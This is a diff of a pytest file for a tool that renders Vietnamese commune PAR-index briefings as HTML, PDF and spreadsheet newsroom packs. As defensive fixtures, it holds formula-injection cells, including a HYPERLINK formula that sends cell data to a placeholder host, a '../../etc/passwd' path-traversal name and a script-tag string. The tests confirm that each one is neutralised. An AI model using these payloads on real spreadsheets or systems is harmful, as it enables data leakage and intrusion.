@@ -215,18 +215,22 @@ def test_html_publishes_only_the_blocks_of_its_language(renderer, nb):
     assert '<span class="value">92,62</span>' in page
     assert '<th scope="col" class="num">Điểm</th>' in page
     assert '<tr class="highlight"><td>Xã Tân Kỳ</td><td class="num">17,25</td>' in page
-    assert page.count("<img ") == 1 and page.count(' src="data:image/svg+xml;base64,') == 1
-    assert 'alt="Đường chỉ số tăng từ 88,1 lên 92,62"' in page
+    # the chart's own SVG in the page (its text in the page's embedded font), described
+    assert page.count("<img ") == 0 and page.count("<svg ") == 1
+    assert '<svg role="img" aria-label="Đường chỉ số tăng từ 88,1 lên 92,62"' in page
     # nothing of the English copy, the code, the parameters or the notebook metadata
     assert "PAR index 92.62" not in page and "Points by area" not in page
     for leaked in ("injected-parameters", "parameters", "sections.show", "briefing.prepare",
                    "locality =", SECRET, "secret", "papermill", "stray output", "debug",
                    "Analyst note", "In&nbsp;[", "In [", "jp-", "cell-", "kernelspec"):
         assert leaked not in page, leaked
-    assert re.search(r"\bid=", page) is None  # no generated ids
+    # no generated ids but the chart's own, made unique in the page
+    ids = re.findall(r'\bid="([^"]+)"', page)
+    assert ids and all(re.fullmatch(r"c\d+-\S+", i) for i in ids) and len(set(ids)) == len(ids)
     footer = re.search(r"<footer>(.*)</footer>", page).group(1)
-    assert footer == ("Xã Tân Kỳ · 17266 · Quý III/2026 · phương pháp par-commune · "
-                      "dữ liệu 0123456789ab · parbrief 0.1.0")
+    # in the reader's words: no methodology id, no English
+    assert footer == ("Xã Tân Kỳ (mã 17266) · Quý III/2026 · mã số liệu 0123456789ab · "
+                      "lập bằng parbrief 0.1.0")
 
 
 def test_html_english_copy(renderer, nb):
@@ -240,12 +244,22 @@ def test_html_english_copy(renderer, nb):
 def test_html_is_self_contained(renderer, nb):
     page = renderer.html(nb, "vi")
     assert html_page.external_references(page) == []
-    assert b"http" not in page  # not even the SVG's namespace URLs (the image is base64)
+    assert b"http" not in page  # not even the SVG's namespace URLs
     assert b"<link" not in page and b"<script" not in page
     assert b"@page { size: A4" in page and b"break-inside: avoid" in page
-    # the embedded image is the chart's SVG, byte for byte
-    src = re.search(rb'src="data:image/svg\+xml;base64,([^"]+)"', page).group(1)
-    assert base64.b64decode(src).decode("utf-8") == _CHART[0]
+    # the chart's font travels with the page: DejaVu Sans, regular and bold, as WOFF
+    faces = re.findall(rb'@font-face \{ font-family: "DejaVu Sans"; font-style: normal; '
+                       rb'font-weight: (\w+); src: url\(data:font/woff;base64,([^)]+)\)', page)
+    assert [w for w, _ in faces] == [b"normal", b"bold"]
+    from fontTools.ttLib import TTFont
+
+    font = TTFont(io.BytesIO(base64.b64decode(faces[0][1])))
+    assert font["name"].getDebugName(1) == "DejaVu Sans"
+    assert {ord(c) for c in "Xã Tân Kỳ Đô Lương Quý ứ ợ"} <= set(font.getBestCmap())
+    # the chart is the chart's SVG, its text unchanged
+    svg = re.search(r"<svg .*?</svg>", page.decode("utf-8"), re.DOTALL).group(0)
+    assert re.findall(r"<text[^>]*>([^<]+)</text>", svg) == \
+        re.findall(r"<text[^>]*>([^<]+)</text>", _CHART[0])
     # and the hostile-looking-but-harmless detector does fire on a remote reference
     assert html_page.external_references('<img src="https://x.org/a.png">') == ['src="https://']
     assert html_page.external_references("a { background: url(//cdn.x/y) }") == ["url(//"]
@@ -287,21 +301,23 @@ def test_pdf_is_a4_with_vietnamese_text_and_footer(renderer, nb):
     page = reader.pages[0]
     assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (595, 842)
     text = _pdf_text(pdf)
-    assert "Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm" in text
-    assert "Điểm theo lĩnh vực" in text and "17,25" in text and "3/13" in text
-    assert "Trang 1/" in text
-    assert "phương pháp par-commune" in text
+    # the committee edition: the decree's frame around the report, its title as the subject
+    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc" in text
+    assert "BÁO CÁO\nXã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm" in text
+    assert "I. Điểm theo lĩnh vực" in text and "17,25" in text and "3/13" in text
+    assert "Nơi nhận:\n- ………………………………\n- Lưu: VT" in text
+    assert "Trang" not in text and "par-commune" not in text
     assert reader.metadata.title == "Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm"
     assert reader.metadata.get("/CreationDate") is None and reader.metadata.get("/ModDate") is None
     assert b"/srv/" not in pdf and b"papermill" not in pdf
 
 
-def test_pdf_embeds_the_chart_and_dejavu(renderer, nb):
+def test_pdf_embeds_the_chart_and_the_documents_font(renderer, nb):
     files = renderer.typst_files(nb, "vi")
     assert files["chart-1.svg"] == _CHART[0].encode("utf-8")
-    assert '#chart([Xu hướng chỉ số], "chart-1.svg"' in files["main.typ"].decode("utf-8")
+    assert "#chart([Hình 1\\. Xu hướng chỉ số], \"chart-1.svg\"" in files["main.typ"].decode("utf-8")
     pdf = renderer.pdf(nb, "vi")
-    assert b"DejaVuSans" in pdf
+    assert b"LiberationSerif" in pdf and b"DejaVuSans" not in pdf
 
 
 def test_pdf_is_byte_identical_for_the_same_notebook(renderer, nb):
@@ -309,7 +325,7 @@ def test_pdf_is_byte_identical_for_the_same_notebook(renderer, nb):
     assert renderer.pdf(nb, "en") == first
     assert render.Renderer().pdf(make_notebook(), "en") == first
     assert "Xã Tân Kỳ: PAR index 92.62 in Q3 2026" in _pdf_text(first)
-    assert "Page 1/" in _pdf_text(first)
+    assert "CỘNG HÒA" not in _pdf_text(first)  # the English edition has no decree frame
 
 
 def test_pdf_shows_a_script_name_as_text(renderer, hostile_nb):
@@ -391,24 +407,68 @@ def test_typst_escape_of_a_hostile_string_prints_it_literally(renderer):
 def test_newsroom_pack(renderer, nb, tmp_path):
     folder = tmp_path / "17266-xa-tan-ky.vi.newsroom"
     paths = renderer.newsroom(nb, "vi", folder)
-    assert sorted(p.name for p in paths) == ["diem-linh-vuc.csv", "lead.txt", "xu-huong.png",
-                                             "xu-huong.svg"]
+    pack = ["diem-linh-vuc.csv", "diem-linh-vuc.xlsx", "index.html", "lead.txt", "xu-huong.png",
+            "xu-huong.svg"]
+    assert sorted(p.name for p in paths) == pack
     assert all(p.parent == folder and p.is_file() for p in paths)
     assert (folder / "lead.txt").read_text(encoding="utf-8") == (
+        "Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm\n\n"
         "Quý III/2026, Xã Tân Kỳ đạt 92,62 điểm, xếp hạng 3/13, loại Xuất sắc.\n")
     assert (folder / "xu-huong.svg").read_text(encoding="utf-8") == _CHART[0]
     png = (folder / "xu-huong.png").read_bytes()
-    assert png.startswith(b"\x89PNG") and png == base64.b64decode(_CHART[1])
-    with open(folder / "diem-linh-vuc.csv", encoding="utf-8", newline="") as fh:
-        rows = list(csv.reader(fh))
-    assert rows == [["area", "points", "max"], ["a1_direction", "8.5", "9"],
-                    ["Xã Tân Kỳ", "17.25", "18"], ["a3_procedures", "19.0", "20"]]
+    # print size: rasterised from the SVG at 350 ppi (the fixture chart is 5 in wide)
+    assert png.startswith(b"\x89PNG") and int.from_bytes(png[16:20], "big") == 1750
+    raw = (folder / "diem-linh-vuc.csv").read_bytes()
+    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw  # Excel on Windows reads UTF-8
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows == [["Lĩnh vực", "Điểm đạt", "Điểm tối đa"], ["a1_direction", "8.5", "9"],
+                    ["Xã Tân Kỳ", "17.25", "18"], ["a3_procedures", "19", "20"]]
+    index = (folder / "index.html").read_text(encoding="utf-8")
+    assert [m for m in re.findall(r'href="([^"]+)"', index)] == [
+        "lead.txt", "diem-linh-vuc.csv", "diem-linh-vuc.xlsx", "xu-huong.png", "xu-huong.svg"]
     # a second pack replaces the first as a whole: no stale files remain
     (folder / "old-chart.png").write_bytes(b"stale")
     renderer.newsroom(nb, "en", folder)
-    assert sorted(p.name for p in folder.iterdir()) == ["diem-linh-vuc.csv", "lead.txt",
-                                                        "xu-huong.png", "xu-huong.svg"]
+    assert sorted(p.name for p in folder.iterdir()) == pack
     assert [p.name for p in tmp_path.iterdir()] == [folder.name]  # no scratch folders left
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', "=1+2",
+                 "@SUM(1+1)", "+84 912", "-1+1", "\t=cmd", "\r=cmd", "＝1+2"]
+
+
+def test_every_text_cell_of_a_pack_is_neutralised_against_formula_injection():
+    from openpyxl import load_workbook
+
+    block = {"kind": "table", "name": "areas", "title": "=title", "columns": ["a", "b"],
+             "rows": [], "data": {"columns": ["=area", "rank"],
+                                  "rows": [[text, -20.0] for text in HOSTILE_CELLS]}}
+    files = newsroom.newsroom_files([block], "en")
+    rows = list(csv.reader(io.StringIO(files["areas.csv"].decode("utf-8-sig"))))
+    assert rows[0] == ["'=area", "Rank"]
+    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE_CELLS]
+    assert {r[1] for r in rows[1:]} == {"-20"}  # a number stays a number, an integer rank
+    sheet = load_workbook(io.BytesIO(files["areas.xlsx"])).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
+    texts = [c for c in cells if isinstance(c.value, str)]
+    assert all(c.quotePrefix for c in texts if c.value.startswith("'"))
+    assert [c.value for c in sheet["B"][3:]] == [-20] * len(HOSTILE_CELLS)
+    # the same table gives the same bytes (no time in the workbook)
+    assert newsroom.newsroom_files([block], "en")["areas.xlsx"] == files["areas.xlsx"]
+
+
+def test_pack_numbers_are_rounded_as_displayed_and_headers_are_in_the_report_language():
+    block = {"kind": "table", "name": "peers", "title": "t", "columns": [], "rows": [],
+             "data": {"columns": ["rank", "name", "index", "on_time_rate", "index_change",
+                                  "rank_change", "reconstructed"],
+                      "rows": [[3.0, "Xã Tân Kỳ", 92.625, 96.4941569282137, -0.005, -20.0,
+                                True]]}}
+    for lang, header, flag in (("vi", "Hạng", "có"), ("en", "Rank", "yes")):
+        rows = list(csv.reader(io.StringIO(newsroom.newsroom_files([block], lang)["peers.csv"]
+                                           .decode("utf-8-sig"))))
+        assert rows[0][0] == header and rows[0][3].endswith("(%)")
+        assert rows[1] == ["3", "Xã Tân Kỳ", "92.63", "96.49", "-0.01", "-20", flag]
 
 
 def test_newsroom_file_names_cannot_leave_the_folder():
@@ -416,8 +476,9 @@ def test_newsroom_file_names_cannot_leave_the_folder():
              {"kind": "table", "name": "../../etc/passwd", "columns": ["a"], "rows": [["2"]]},
              {"kind": "chart", "name": "", "svg": "<svg/>", "png": ""},
              {"kind": "chart", "name": "Điểm số quý", "svg": "<svg/>", "png": ""}]
-    assert list(newsroom.newsroom_files(found)) == ["etc-passwd.csv", "etc-passwd-2.csv",
-                                                  "chart-1.svg", "Diem-so-quy.svg"]
+    assert list(newsroom.newsroom_files(found)) == [
+        "etc-passwd.csv", "etc-passwd.xlsx", "etc-passwd-2.csv", "etc-passwd-2.xlsx",
+        "chart-1.svg", "Diem-so-quy.svg", "index.html"]
 
 
 # ---------------------------------------------------------------------------------- writing
@@ -447,9 +508,16 @@ def test_render_report_writes_every_file(renderer, nb, tmp_path):
                                "vi.pdf"]
     assert written["vi.html"] == tmp_path / "17266-xa-tan-ky.vi.html"
     assert written["en.pdf"].read_bytes().startswith(b"%PDF")
-    assert written["vi.html"].read_bytes() == renderer.html(nb, "vi")
-    assert (written["en.newsroom"] / "lead.txt").read_text(encoding="utf-8").startswith(
-        "In Q3 2026 Xã Tân Kỳ scored 92.62")
+    links = html_page.report_links("17266-xa-tan-ky", ["vi", "en"], ["html", "pdf", "newsroom"],
+                                   site=False)
+    assert written["vi.html"].read_bytes() == renderer.html(nb, "vi", links["vi"])
+    nav = re.search(r'<nav class="site".*?</nav>', written["vi.html"].read_text("utf-8"),
+                    re.DOTALL).group(0)
+    assert re.findall(r'href="([^"]+)"', nav) == [
+        "17266-xa-tan-ky.en.html", "17266-xa-tan-ky.vi.pdf",
+        "17266-xa-tan-ky.vi.newsroom/index.html"]
+    assert "In Q3 2026 Xã Tân Kỳ scored 92.62" in \
+        (written["en.newsroom"] / "lead.txt").read_text(encoding="utf-8")
     assert sorted(p.name for p in tmp_path.iterdir()) == [
         "17266-xa-tan-ky.en.html", "17266-xa-tan-ky.en.newsroom", "17266-xa-tan-ky.en.pdf",
         "17266-xa-tan-ky.vi.html", "17266-xa-tan-ky.vi.newsroom", "17266-xa-tan-ky.vi.pdf"]
@@ -459,8 +527,8 @@ def test_render_report_writes_every_file(renderer, nb, tmp_path):
 
 
 def test_render_report_checks_its_arguments(renderer, nb, tmp_path):
-    with pytest.raises(ValueError, match="unknown output format 'docx'"):
-        render.render_report(nb, tmp_path, "x", ["vi"], ["docx"], renderer=renderer)
+    with pytest.raises(ValueError, match="unknown output format 'odt'"):
+        render.render_report(nb, tmp_path, "x", ["vi"], ["odt"], renderer=renderer)
     with pytest.raises(ValueError, match="bad report file stem"):
         render.render_report(nb, tmp_path, "../x", ["vi"], ["html"], renderer=renderer)
     with pytest.raises(ValueError, match="unknown renderer 'latex'"):
@@ -513,28 +581,54 @@ def _entries():
     ]
 
 
-def test_index_page_lists_overviews_first_then_by_rank():
-    page = index_page.index_page("2026Q3", _entries()).decode("utf-8")
-    assert '<html lang="vi">' in page
-    assert "<title>Chỉ số CCHC Quý III/2026 · PAR index Q3 2026</title>" in page
-    rows = re.findall(r"<tr class=\"(\w+)\"><td>(.*?)</td>", page)
-    assert [kind for kind, _ in rows] == ["overview", "briefing", "briefing"]
-    assert rows[1][1] == "&lt;script&gt;alert(1)&lt;/script&gt;" and "<script" not in page
-    assert rows[2][1] == "Xã Tân Kỳ"
-    tan_ky = re.search(r"<tr class=\"briefing\"><td>Xã Tân Kỳ</td>.*?</tr>", page).group(0)
-    assert '<td class="num">92,62</td><td class="num">3/13</td><td>Xuất sắc / Excellent</td>' \
-        in tan_ky
+def test_province_page_lists_every_briefing_sortable_and_searchable_offline():
+    entries = [dict(e, name={"vi": e["locality_name"], "en": e["locality_name"]})
+               for e in _entries() if e["kind"] == "briefing"]
+    overview = next(e for e in _entries() if e["kind"] == "overview")
+    overview = dict(overview, headline={"vi": "Tít", "en": "Headline"},
+                    lead={"vi": "Đoạn mở đầu", "en": "Lead"})
+    page = index_page.province_page("2026Q3", "vi", ["vi", "en"], overview,
+                                    entries).decode("utf-8")
+    assert '<html lang="vi">' in page and '<p class="headline">Tít</p>' in page
+    rows = re.findall(r'<tr data-text="[^"]*">(.*?)</tr>', page)
+    assert len(rows) == 2
+    assert rows[0].startswith("<td data-sort=\"&lt;script&gt;")  # first by rank; escaped
+    assert "<script>alert" not in page
+    tan_ky = rows[1]
+    assert '<td class="num" data-sort="92.62">92,62</td>' in tan_ky
+    assert '<td class="num" data-sort="3">3/13</td>' in tan_ky
     assert re.findall(r'href="([^"]+)"', tan_ky) == [
-        "40/17266-xa-tan-ky.vi.html", "40/17266-xa-tan-ky.vi.pdf",
-        "40/17266-xa-tan-ky.en.html", "40/17266-xa-tan-ky.en.pdf"]
+        "40/17266-xa-tan-ky.vi.html", "40/17266-xa-tan-ky.vi.pdf", "40/17266-xa-tan-ky.en.html"]
+    assert '<table class="sortable" data-search="units-q"' in page
+    assert 'type="search"' in page and "localeCompare" in page  # sorts and filters in the page
+    assert "../index.html" in page and 'href="index.en.html"' in page
     assert html_page.external_references(page) == [] and "http" not in page
-    assert index_page.index_page("2026Q3", list(reversed(_entries()))) == page.encode("utf-8")
+    again = index_page.province_page("2026Q3", "vi", ["vi", "en"], overview,
+                                     list(reversed(entries)))
+    assert again == page.encode("utf-8")
 
 
-def test_index_page_refuses_absolute_links():
+def test_national_page_lists_provinces_with_their_key_figures():
+    overview = dict(next(e for e in _entries() if e["kind"] == "overview"), reported=129,
+                    total=130, index=82.49, first={"vi": "xã Tân Châu", "en": "Tân Châu commune"},
+                    last={"vi": "xã Nghĩa Đồng", "en": "Nghĩa Đồng commune"}, class_up=15,
+                    class_down=5, name={"vi": "Tỉnh Nghệ An", "en": "Nghệ An province"})
+    page = index_page.national_page("2026Q3", "en", ["vi", "en"],
+                                    [{"folder": "nghe-an", "overview": overview,
+                                      "briefings": 129}]).decode("utf-8")
+    assert '<html lang="en">' in page and "<title>PAR index, Q3 2026: provinces</title>" in page
+    row = re.search(r"<tr data-text=.*?</tr>", page).group(0)
+    assert '<a href="nghe-an/index.en.html">Nghệ An province</a>' in row
+    assert ">129/130<" in row and ">82.49<" in row and ">15/5<" in row
+    assert "Tân Châu commune" in row and "Nghĩa Đồng commune" in row
+    assert '<a href="nghe-an/40/overview.vi.html" hreflang="vi" lang="vi">VI</a>' in row
+    assert 'href="index.html"' in page  # the Vietnamese page
+
+
+def test_index_links_must_be_relative():
     entry = dict(_entries()[0], links={"vi": {"html": "/srv/reports/a.html"}})
     with pytest.raises(ValueError, match="relative to the index page"):
-        index_page.index_page("2026Q3", [entry])
+        index_page.province_page("2026Q3", "vi", ["vi"], None, [entry])
 
 
 def test_chart_fixture_is_deterministic():
